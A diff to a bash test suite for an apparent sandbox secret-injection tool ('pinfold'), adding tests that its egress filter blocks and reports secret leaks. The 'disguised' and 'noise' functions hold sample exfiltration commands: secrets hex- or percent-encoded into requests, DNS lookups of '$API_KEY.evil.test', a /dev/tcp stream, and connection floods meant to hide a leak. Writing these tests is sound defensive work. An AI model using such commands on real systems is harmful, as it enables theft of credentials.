@@ -1,5 +1,7 @@
 #!/bin/bash
 # SPDX-License-Identifier: Apache-2.0
+# red: gate-stray, gate-foreign, gate-redact, gate-rows
+#
 # Secrets: inside there is a placeholder; the value goes out to its own host alone, in its own place,
 # and does not come back.
 . "$(dirname "$0")/../lib/egress.sh"
@@ -19,6 +21,10 @@ policy()
 		    paths: [/echo*]
 		    inject:
 		      - {secret: API_KEY, query: key}
+		  - host: four.test
+		    port: 443
+		    name: files
+		    paths: [/files/*]
 		  - host: a.wild.test
 		    port: 443
 		    inject:
@@ -62,7 +68,8 @@ vault()
 	nowhere "without its value"
 	check "which is nowhere in the data directory" test -z \
 		"$(grep -rlF 0123456789 "$M/home" 2>/dev/null)"
-	check "nor is its name" test -z "$(grep -rlF API_KEY "$M/home" 2>/dev/null)"
+	check "nor is its name, but in the ledger" test -z \
+		"$(grep -rlF --exclude-dir=ledger API_KEY "$M/home" 2>/dev/null)"
 	check "the file is the user's own" test "$(stat -c %a "$M/home/secrets")" = 600
 	check "the key lies elsewhere" test "$(stat -c %s "$KEYS/pinfold-vault.key")" = 32
 	pinfold secret set 1BAD --file /dev/null
@@ -71,6 +78,37 @@ vault()
 	refuses invalid_argument "no line" "a value that is none"
 	pinfold secret rm NOBODY
 	refuses not_found NOBODY "one that is not there"
+	pinfold secret set API_KEY "$VALUE"
+	refuses invalid_argument "too many" "a value as a word"
+	pinfold secret set
+	refuses invalid_argument NAME "no name"
+	pinfold secret set BY_COMMAND --command 'echo sk-0123456789-by; true' --ttl 1h
+	exits 0 "what a command prints"
+	pinfold secret set BY_COMMAND --command 'echo sk-0123456789-no; false'
+	refuses invalid_argument --command "one that fails"
+	pinfold secret ls --json
+	json_is '["API_KEY", "BY_COMMAND"]' '[x["name"] for x in d["items"]] if d["next"] is None else 0' "a list as every other"
+	json_has 'all(re.fullmatch(r"20\d\d-\d\d-\d\dT[\d:.]+Z", x["created"]) for x in d["items"]) and d["items"][0]["expires"] is None' \
+		"with instants"
+	pinfold secret rm BY_COMMAND
+}
+
+# Who interrupts it while it waits for the value has a terminal that shows what he types.
+typed()
+{
+	check "echo comes back" env "PINFOLD_HOME=$M/typed" "PINFOLD_CONFIG=$M/typed" /usr/bin/python3 -I - \
+		"$PINFOLD_COPY" secret set TYPED <<-'EOT'
+		import fcntl, os, pty, subprocess, sys, termios
+		master, slave = pty.openpty()
+		shows = lambda: termios.tcgetattr(slave)[3] & termios.ECHO
+		p = subprocess.Popen(sys.argv[1:], stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
+		                     preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0))
+		while shows() and p.poll() is None:
+		    pass
+		os.write(master, b"\x03")
+		p.wait()
+		sys.exit(not shows())
+	EOT
 }
 
 out()
@@ -82,6 +120,9 @@ out()
 	check "the server has the value" test "$(grep -cF "Bearer $VALUE" "$NET/far/keys")" = 2
 	with_secret curl -s 'https://four.test/echo?a=b'
 	check "as a parameter" grep -qF '/echo?a=b&key=sk-live%2F0123456789%2B%22abcdef' "$NET/far/http"
+	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" curl -s https://four.test/echo https://four.test/files/x
+	json_is '[["/echo", false], ["/files/x", true]]' 'sorted((q["path"], n["rule"] == "files")
+		for n in d["network"] for q in n["requests"])' "a request is in the row of the rule that allowed it"
 	with_secret curl -s https://a.wild.test/
 	check "as basic auth" grep -qF "Basic $(printf 'user:%s' "$VALUE" | base64 -w0)" "$NET/far/keys"
 }
@@ -119,13 +160,61 @@ alarms()
 		code -H "Authorization: Bearer $API_KEY" http://good.test/
 		code -H "Authorization: Bearer mine" https://good.test/
 		code -H "x-api-key: mine" https://good.test/
+		code -H "Authorization: Bearer mine" https://four.test/files/x
+		code -H "Cookie: session=mine" https://four.test/files/x
+		code "https://four.test/files/x?access_token=mine"
 		code -H "Authorization: Bearer pfs_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" https://good.test/'
-	json_is "403 403 000 403 403 403 403 403 " 'out.decode()' "a placeholder anywhere else is refused"
-	check "no server saw a request" test "$(seen http .)" = 0
+	json_is "403 403 502 403 403 403 403 403 403 403 403 " 'out.decode()' "a placeholder anywhere else is refused"
+	# A head may be on its way before anything of its body is there to be looked at.
+	check "no server saw a request" test -z "$(grep -v '^POST b.wild.test / 0 443 ' "$NET/far/http")"
 	json_has 'sum(x["count"] for x in d["denials"] if "placeholder of a secret" in x["what"]) == 5' \
 		"five alarms are told"
+	json_has 'sum(a["count"] for a in d["alerts"] if a["rule"] == "secret") == 5' "as alerts, too"
 	json_has 'any("credential of its own" in x["what"] for x in d["denials"])' \
 		"a client with its own key is told, too"
+}
+
+# Nor does another dress help, or another way.
+disguised()
+{
+	local other
+
+	with_secret sh -c 'echo "$API_KEY"'
+	other=$(head -1 "$OUT")
+	forget
+	inside_json --policy "$W/policy.yaml" --allow good.test:7777 -- "${BARE[@]}" bash -c '
+		code() { curl -s -o /dev/null -w "%{http_code} " "$@"; }
+		code -u "user:$API_KEY" https://b.wild.test/
+		code "https://b.wild.test/?x=%70fs_${API_KEY#pfs_}"
+		code -H "X-Note: $(printf %s "$API_KEY" | od -An -tx1 -v | tr -d " \n")" https://b.wild.test/
+		code -H "X-Note: '"$other"'" https://b.wild.test/
+		getent hosts "$API_KEY.evil.test" || printf "no "
+		exec 3<>/dev/tcp/good.test/7777; printf "x%s\n" "$API_KEY" >&3; read -r -t 5 back <&3; echo "$back"'
+	json_is "403 403 403 403 no " 'out.decode().rstrip("\n")' "encoded, another sandbox's, as a name or in a stream"
+	check "no server saw it" test "$(cat "$NET/far/http" "$NET/far/tcp" "$NET/far/dns" | grep -c 'pfs_\|evil')" = 0
+	json_has 'sum(x["count"] for x in d["denials"] if "placeholder of a secret" in x["what"]) >= 6' "each is an alarm"
+	json_has 'not any("--allow pfs_" in x["hint"] for x in d["denials"])' "and nobody is told to allow it"
+}
+
+# Whoever makes much noise first hides nothing by it.
+noise()
+{
+	inside_json --policy "$W/policy.yaml" -- "${BARE[@]}" sh -c '
+		/usr/bin/python3 -c "
+import socket
+for i in range(300):
+    for name in (\"n%d.evil.test\" % i, \"203.0.113.%d\" % (i % 250)):
+        try: socket.create_connection((name, 443), 5)
+        except OSError: pass"
+		curl -s https://good.test/
+		curl -s -o /dev/null "https://b.wild.test/?x=$API_KEY"'
+	json_has 'len(d["network"]) < 260 and d["network_omitted"] > 300' "many refusals are folded"
+	json_has 'any(n["host"] == "good.test" and n["verdict"] == "allowed" for n in d["network"])' \
+		"what was let through afterwards is on record"
+	json_has 'any(n["host"] == "b.wild.test" and n["rule"] == "secret" for n in d["network"])' "so is an alarm"
+	json_has 'any("placeholder" in x["what"] for x in d["denials"]) and any(a["rule"] == "secret" for a in d["alerts"])' \
+		"in all its places"
+	json_has 'sum(n["count"] for n in d["network"] if n["verdict"] == "denied") >= 600' "and none is lost from the counts"
 }
 
 ends()
@@ -156,9 +245,12 @@ checks()
 	: >"$NET/far/keys"
 	policy
 	vault
+	typed
 	out
 	inside_of_it
 	alarms
+	disguised
+	noise
 	ends
 	untouched "secrets"
 }
